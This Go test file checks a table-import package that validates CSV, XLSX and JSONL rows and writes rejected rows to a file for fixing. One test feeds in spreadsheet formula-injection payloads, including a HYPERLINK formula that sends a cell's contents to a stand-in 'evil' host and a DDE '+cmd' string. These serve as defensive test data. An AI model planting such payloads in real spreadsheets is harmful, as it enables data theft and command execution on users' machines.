package rows

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"reflect"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
	"pgregory.net/rapid"

	"xietong/node/ground/table"
	"xietong/node/ground/text"
)

const things = `{"type":"object","required":["编号"],"properties":{
	"编号":{"type":"string","title":"编 号"},"文":{"type":"string"},"数":{"type":"integer"},"额":{"type":"number"},"真":{"type":"boolean"},
	"日":{"type":"string","format":"date"},"意":{"type":["string","integer"]},"时":{"type":"string","format":"date-time"}}}`

// badOfFile reads a file, and returns its good records, what is told, and its file of bad rows.
func badOfFile(t testing.TB, src table.Source, s *Schema, o Options) (records, told []string, bad string) {
	t.Helper()
	_, records, told, err := open(src, s, table.Wish{}, o)
	if err != nil {
		t.Fatal(err)
	}
	taken, _ := table.Inspect(src, table.Wish{})
	var b strings.Builder
	if _, err := WriteBad(&b, src, taken, s, o, text.Zh); err != nil {
		t.Fatal(err)
	}
	return records, told, b.String()
}

// book returns a workbook of one sheet.
func book(t testing.TB, fill func(f *excelize.File)) *bytes.Reader {
	t.Helper()
	f := excelize.NewFile()
	defer f.Close()
	fill(f)
	var b bytes.Buffer
	if err := f.Write(&b); err != nil {
		t.Fatal(err)
	}
	return bytes.NewReader(b.Bytes())
}

// TestBadRowsStayBad takes the file of bad rows of each kind of fault as it is: none of its rows
// goes in, also in the second file of bad rows. Mended, or said to be right, each row goes in.
func TestBadRowsStayBad(t *testing.T) {
	s := schemaOf(t, things, "编号")
	sheet := func(cells ...any) *bytes.Reader {
		return book(t, func(f *excelize.File) {
			f.SetSheetRow("Sheet1", "A1", &[]any{"编号", "文", "数", "真", "意"})
			f.SetSheetRow("Sheet1", "A2", &cells)
		})
	}
	const head = "编号,文,数\n"
	for name, row := range map[string]struct {
		file           table.Source
		from, to, want string // want: of the row that is mended so
	}{
		"digits lost":   {sheet("101", 6222021234567890124.0, 1, true), "6222021234567890000", "6222021234567890124", `{"数":1,"文":"6222021234567890124","真":true,"编号":"101"}`},
		"key lost":      {sheet(6222021234567890124.0), "6222021234567890000", "6222021234567890124", `{"编号":"6222021234567890124"}`},
		"either type":   {sheet("101", nil, nil, nil, 1e17), ",100000000000000000", ",100000000000000001", `{"意":"100000000000000001","编号":"101"}`},
		"open quote":    {strings.NewReader(head + "302,\"引号没关,3\n303,a,1\n"), `"引号没关,3",`, "引号关了,3", `{"数":3,"文":"引号关了","编号":"302"}`},
		"bare quote":    {strings.NewReader(head + "302,a\"b\"c,3\n"), `"a""b""c"`, "abc", `{"数":3,"文":"abc","编号":"302"}`},
		"cut short":     {strings.NewReader(head + "305,戊\n"), "戊,", "戊,5", `{"数":5,"文":"戊","编号":"305"}`},
		"too long":      {strings.NewReader(head + "304,丁,5,6\n"), "5,6,", "56,,", `{"数":56,"文":"丁","编号":"304"}`},
		"key twice":     {strings.NewReader(head + "304,丁,5\n304,戊,6\n"), "304", "305", `{"数":6,"文":"戊","编号":"305"}`},
		"exponent":      {strings.NewReader(head + "304,6.22202E+18,5\n"), "6.22202E+18", "6222021234567890124", `{"数":5,"文":"6222021234567890124","编号":"304"}`},
		"formula":       {strings.NewReader(head + "304,#DIV/0!,5\n"), "#DIV/0!", "x", `{"数":5,"文":"x","编号":"304"}`},
		"narrow":        {strings.NewReader(head + "304,a,#####\n"), "#####", "7", `{"数":7,"文":"a","编号":"304"}`},
		"header again":  {strings.NewReader(head + "304,a,1\n编 号,文,数\n"), "编 号,文,数", "305,b,2", `{"数":2,"文":"b","编号":"305"}`},
		"member twice":  {strings.NewReader("{\"编号\":\"414\",\"文\":\"a\",\"文\":\"b\"}\n"), `"文":"a",`, "", `{"文":"b","编号":"414"}`},
		"twice, a list": {strings.NewReader(`[{"编号":"414","意":{"a":1},"意":2}]`), `"意":{"a":1},`, "", `{"意":2,"编号":"414"}`},
		"key, objects":  {strings.NewReader("{\"编号\":\"1\",\"数\":1}\n{\"编号\":\"1\",\"数\":2}\n"), `{"编号":"1"`, `{"编号":"2"`, `{"数":2,"编号":"2"}`},
		"no object":     {strings.NewReader("{\"编号\":\"1\"}\n{\"编号\":\"2\"\n"), `{"xietong:raw":"{\"编号\":\"2\"",`, `{"编号":"2",`, `{"编号":"2"}`},
		"key of spaces": {strings.NewReader("{\"编号\":\" \"}\n"), `" "`, `"3"`, `{"编号":"3"}`},
		"spaces around": {strings.NewReader("{\"编号\":\"ABC \"}\n"), `"ABC "`, `"ABC"`, `{"编号":"ABC"}`},
	} {
		_, told, first := badOfFile(t, row.file, s, Options{})
		for _, o := range []Options{{}, {AsSpreadsheet: true}} {
			if strings.HasPrefix(name, "spaces") && o.AsSpreadsheet {
				continue
			}
			records, again, second := badOfFile(t, strings.NewReader(first), s, o)
			if len(told) == 0 || len(again) == 0 || len(records) > 0 {
				t.Errorf("%s: got %q of the file of bad rows, which tells %q:\n%s", name, records, again, first)
			}
			if records, _, _ := badOfFile(t, strings.NewReader(second), s, o); len(records) > 0 {
				t.Errorf("%s: got %q of the second file of bad rows:\n%s", name, records, second)
			}
		}
		mended := strings.Replace(first, row.from, row.to, 1)
		records, told, _ := badOfFile(t, strings.NewReader(mended), s, Options{})
		if !slices.Equal(records, []string{row.want}) {
			t.Errorf("%s, mended: got %q, %q of\n%s\nwant %s", name, records, told, mended, row.want)
		}
	}
	_, _, first := badOfFile(t, sheet("101", 6222021234567890000.0), s, Options{})
	right := strings.Replace(first, "文="+strings.TrimSpace(first[strings.LastIndex(first, "文=")+len("文="):]), "", 1)
	if records, told, _ := badOfFile(t, strings.NewReader(right), s, Options{}); !slices.Equal(records, []string{`{"文":"6222021234567890000","编号":"101"}`}) {
		t.Errorf("said to be right: got %q, %q of\n%s", records, told, right)
	}
}

// TestNoBadRowGoesIn draws files of all formats with rows good and bad, and takes their files of
// bad rows as they are: nothing goes in.
func TestNoBadRowGoesIn(t *testing.T) {
	s := schemaOf(t, things, "编号")
	fields := []string{"编号", "文", "数", "额", "真", "日", "意", "时"}
	cells := []string{"1", "2", "丙", "", " ", "a,b", "6.2E+18", "#N/A", "TRUE", "true", "是", "1,234", "2020/2/3", "2020-02-03", "2020-02-03T08:00:00", "\"x\"", "x\ny", "12345678901234567890", "编号", "合计", "=1+1", " b "}
	rapid.Check(t, func(t *rapid.T) {
		var rows [][]string
		for range rapid.IntRange(1, 8).Draw(t, "rows") {
			rows = append(rows, rapid.SliceOfN(rapid.SampledFrom(cells), 1, len(fields)+2).Draw(t, "row"))
		}
		file := map[string]func(*rapid.T, []string, [][]string) []byte{
			"csv": csvOf, "xlsx": bookOf, "jsonl": objectsOf,
		}[rapid.SampledFrom([]string{"csv", "xlsx", "jsonl"}).Draw(t, "format")](t, fields, rows)
		o := Options{AsSpreadsheet: rapid.Bool().Draw(t, "as spreadsheet")}
		taken, err := table.Inspect(bytes.NewReader(file), table.Wish{})
		if err != nil {
			t.Skip(err)
		}
		var first, second bytes.Buffer
		n, err := WriteBad(&first, bytes.NewReader(file), taken, s, o, text.En)
		if err != nil {
			t.Skip(err)
		}
		_, records, told, err := open(bytes.NewReader(first.Bytes()), s, table.Wish{}, o)
		if n == 0 {
			return
		}
		if err != nil || len(records) > 0 || len(told) == 0 {
			t.Fatalf("got %q, %v of\n%s\nof\n%s", records, err, first.String(), file)
		}
		taken, _ = table.Inspect(bytes.NewReader(first.Bytes()), table.Wish{})
		again, err := WriteBad(&second, bytes.NewReader(first.Bytes()), taken, s, o, text.En)
		if _, records, _, _ := open(bytes.NewReader(second.Bytes()), s, table.Wish{}, o); err != nil || again != n || len(records) > 0 {
			t.Fatalf("%d rows became %d, %q, %v of\n%s\nof\n%s", n, again, records, err, second.String(), first.String())
		}
	})
}

// TestBadRowsRunNothing (E05): a text of a workbook that looks like a formula is none there, and is
// none in the file of bad rows that a person opens to mend, with any delimiter that a spreadsheet
// program may expect. Mended, it is imported as it was in the workbook.
func TestBadRowsRunNothing(t *testing.T) {
	s := schemaOf(t, things, "编号")
	texts := []string{
		`=HYPERLINK("http://evil/?"&A2,"click")`, "+cmd|' /C calc'!A0", "-2+3+cmd|x", "@SUM(1)", "\t=1+1", "\r=1+1", "＝1+1", "'=1", "'", "-", "-5", "+86 851",
		"a,=1+1", "a;=1+1", "1e5", "x",
	}
	for _, value := range texts {
		for _, file := range map[string]table.Source{
			"xlsx": book(t, func(f *excelize.File) {
				f.SetSheetRow("Sheet1", "A1", &[]any{"编号", "文", "数", nil})
				f.SetSheetRow("Sheet1", "A2", &[]any{"=1", value, "mend", nil, nil, "=2"})
			}),
			"csv": strings.NewReader("编号;文;数\n\"=1\";\"" + strings.ReplaceAll(value, `"`, `""`) + "\";mend\n"),
		} {
			_, _, bad := badOfFile(t, file, s, Options{})
			for _, comma := range ",;\t" {
				in := csv.NewReader(strings.NewReader(strings.TrimPrefix(bad, "\ufeff")))
				in.Comma, in.LazyQuotes, in.FieldsPerRecord = comma, true, -1
				cells, err := in.ReadAll()
				for _, cell := range slices.Concat(cells...) {
					if comma == ',' && (err != nil || cell != "" && strings.ContainsRune("=+-@\t\r\n＝＋－＠", []rune(cell)[0]) && !aNumber.MatchString(cell)) {
						t.Errorf("%q is written as the cell %q, %v", value, cell, err)
					}
				}
			}
			mended := strings.NewReplacer(",mend,", ",7,", ",'=2", ",").Replace(bad)
			records, told, _ := badOfFile(t, strings.NewReader(mended), s, Options{})
			text, _ := json.Marshal(value)
			if want := `{"数":7,"文":` + string(text) + `,"编号":"=1"}`; !same(records, want) {
				t.Errorf("%q, mended, is imported as %q, %q of\n%s", value, records, told, mended)
			}
		}
	}
}

// same reports whether there is one record, equal to the object.
func same(records []string, object string) bool {
	var a, b map[string]any
	return len(records) == 1 && json.Unmarshal([]byte(records[0]), &a) == nil && json.Unmarshal([]byte(object), &b) == nil && reflect.DeepEqual(a, b)
}

// csvOf writes CSV: quoted as it should be, or not.
func csvOf(t *rapid.T, fields []string, rows [][]string) []byte {
	comma := rapid.SampledFrom([]string{",", ";", "\t", "，"}).Draw(t, "comma")
	b := strings.Join(fields, comma) + "\n"
	for _, row := range rows {
		for i, cell := range row {
			if i > 0 {
				b += comma
			}
			if rapid.IntRange(0, 9).Draw(t, "quoted") > 0 {
				cell = `"` + strings.ReplaceAll(cell, `"`, `""`) + `"`
			}
			b += cell
		}
		b += "\n"
	}
	return []byte(b)
}

func objectsOf(t *rapid.T, fields []string, rows [][]string) []byte {
	var b bytes.Buffer
	for _, row := range rows {
		b.WriteString(`{"编号":`)
		for i, cell := range row {
			if i > 0 {
				fmt.Fprintf(&b, `,%q:`, rapid.SampledFrom(fields).Draw(t, "member"))
			}
			if rapid.Bool().Draw(t, "text") || cell == "" {
				cell = fmt.Sprintf("%q", cell)
			}
			b.WriteString(strings.ReplaceAll(cell, "\n", " "))
		}
		b.WriteString("}\n")
	}
	return b.Bytes()
}

func bookOf(t *rapid.T, fields []string, rows [][]string) []byte {
	f := excelize.NewFile()
	defer f.Close()
	for i, row := range append([][]string{fields}, rows...) {
		for j, cell := range row {
			at, _ := excelize.CoordinatesToCellName(j+1, i+1)
			switch rapid.IntRange(0, 6).Draw(t, "kind") {
			case 0:
				if i > 0 {
					f.SetCellValue("Sheet1", at, 6222021234567890124.0)
					continue
				}
			case 1:
				if i > 0 {
					f.SetCellValue("Sheet1", at, true)
					continue
				}
			case 2:
				if i > 1 {
					up, _ := excelize.CoordinatesToCellName(j+1, i)
					f.MergeCell("Sheet1", up, at)
				}
			}
			f.SetCellValue("Sheet1", at, cell)
		}
	}
	var b bytes.Buffer
	if err := f.Write(&b); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// TestTitlesAreShort reads files of which a later row could be the header: what may be a record is
// never passed over as a title.
func TestTitlesAreShort(t *testing.T) {
	s := schemaOf(t, things, "编号")
	for name, row := range map[string]struct {
		file   string
		titles []uint64 // nil: refused
	}{
		"two lists":         {"编号,文字列,数量\nr1,甲,1\nr2,乙,2\n编号,文,数\nr3,丙,3\n", nil},
		"rows, and no head": {"r1,甲,1\nr2,乙,2\n编号,文,数\nr3,丙,3\n", nil},
		"rows with gaps":    {"r1,,1\nr2,,2\n编号,文,数\nr3,丙,3\n", nil},
		"merged heads":      {"编号,文字列,数量\nr1,甲,1\n编号,基本,数\n,文,\nr3,丙,3\n", nil},
		"a title":           {"名单,,\n编号,文,数\nr3,丙,3\n", []uint64{1}},
		"a title and dates": {"名单\n单位：,某局,,\n编号,文,数,额\nr3,丙,3,4\n", []uint64{1, 2}},
		"one column":        {"r1\n编号\nr2\n", nil},
	} {
		r, records, told, err := open(strings.NewReader(row.file), s, table.Wish{}, Options{})
		switch {
		case row.titles != nil && (err != nil || len(records) != 1 || !slices.Equal(r.Header().Titles, row.titles)):
			t.Errorf("%s: got %q, %q, %v", name, records, told, err)
		case row.titles == nil && text.AsFailure(err).Code != text.HeaderRefused:
			t.Errorf("%s: got %q, %v", name, records, err)
		}
	}
	_, _, _, err := open(strings.NewReader("编号,文字列,数量\nr1,甲,1\nr2,乙,2\n编号,文,数\nr3,丙,3\n"), s, table.Wish{}, Options{})
	f := text.AsFailure(err)
	if en := text.Explain(text.En, f.Code, f.Args); !strings.Contains(en.What, "lines 1 to 3 above it may hold records") || en.Where != "line 4 of the file" {
		t.Errorf("got %+v", en)
	}
}

// TestReadAsASpreadsheet counts the bad rows that would be good with AsSpreadsheet, by reading them
// so, and reads times of day in the time of Beijing.
func TestReadAsASpreadsheet(t *testing.T) {
	s := schemaOf(t, things, "编号")
	file := "编号,数,真,时\n1,\"1,234\",是,2026-01-03T08:00:00\n2,x,是,\n3,4,true,2026/1/3 8:05\n4,4,true,2026-01-03T08:00:00Z\n5 ,4,,\n6,5,,2026/1/3 25:00\n"
	r, records, told, err := open(strings.NewReader(file), s, table.Wish{}, Options{})
	if err != nil || len(records) != 1 || r.Mendable() != 3 || len(r.Readings()) > 0 {
		t.Errorf("got %q, %q, %d mendable, %v", records, told, r.Mendable(), err)
	}
	if !slices.ContainsFunc(told, func(s string) bool {
		return strings.Contains(s, "expected: a date with its time of day, such as 2020-02-03T08:30:00+08:00")
	}) {
		t.Errorf("got %q", told)
	}
	r, records, _, err = open(strings.NewReader(file), s, table.Wish{}, Options{AsSpreadsheet: true})
	want := []string{
		`{"数":1234,"时":"2026-01-03T08:00:00+08:00","真":true,"编号":"1"}`, `{"数":4,"时":"2026-01-03T08:05:00+08:00","真":true,"编号":"3"}`,
		`{"数":4,"时":"2026-01-03T08:00:00Z","真":true,"编号":"4"}`, `{"数":4,"编号":"5"}`,
	}
	if err != nil || !slices.Equal(records, want) || r.Mendable() != 0 {
		t.Errorf("got %s, %v, want %s", strings.Join(records, "\n"), err, strings.Join(want, "\n"))
	}
	clock := schemaOf(t, `{"properties":{"k":{"type":"string"},"t":{"type":"string","format":"time"}}}`, "k")
	if _, records, told, _ := open(strings.NewReader("k,t\n1,8:30\n"), clock, table.Wish{}, Options{AsSpreadsheet: true}); !slices.Equal(records, []string{`{"k":"1","t":"08:30:00+08:00"}`}) {
		t.Errorf("got %q, %q", records, told)
	}
}

// TestTotalsAndHeadersAgain tells rows that are no records, in a dataset of texts that takes them.
func TestTotalsAndHeadersAgain(t *testing.T) {
	s := schemaOf(t, `{"properties":{"编号":{"type":"string"},"文":{"type":"string","title":"文字"}}}`, "编号")
	r, records, told, err := open(strings.NewReader("编号,文\nh1,甲\n编号,文字\nh2,合计\n合 计：,2户\n"), s, table.Wish{}, Options{})
	if err != nil || len(records) != 3 || !slices.Equal(r.Totals(), []uint64{5}) || !slices.Equal(told, []string{"line 3: it is the header once more, and no record (delete the row)"}) {
		t.Errorf("got %q, totals %v, %q, %v", records, r.Totals(), told, err)
	}
}

// TestMergedCellsAreFaults reads a list in which a value stands once for several rows.
func TestMergedCellsAreFaults(t *testing.T) {
	s := schemaOf(t, things, "编号")
	file := book(t, func(f *excelize.File) {
		for i, row := range [][]any{{"名单"}, {"编号", "文"}, {"1", "甲"}, {"2"}, {"3"}, {"4"}} {
			f.SetSheetRow("Sheet1", fmt.Sprintf("A%d", i+1), &row)
		}
		f.MergeCell("Sheet1", "A1", "B1")
		f.MergeCell("Sheet1", "B3", "B4")
		f.MergeCell("Sheet1", "B5", "B6")
	})
	records, told, bad := badOfFile(t, file, s, Options{})
	if len(records) != 3 || len(told) != 1 || !strings.HasPrefix(told[0], `line 4, column B "文": it is merged with a cell before it`) {
		t.Errorf("got %q, %q", records, told)
	}
	mended := strings.Replace(bad, "2,,4", "2,甲,4", 1)
	if records, told, _ := badOfFile(t, strings.NewReader(mended), s, Options{}); !slices.Equal(records, []string{`{"文":"甲","编号":"2"}`}) {
		t.Errorf("got %q, %q of %s", records, told, mended)
	}
}
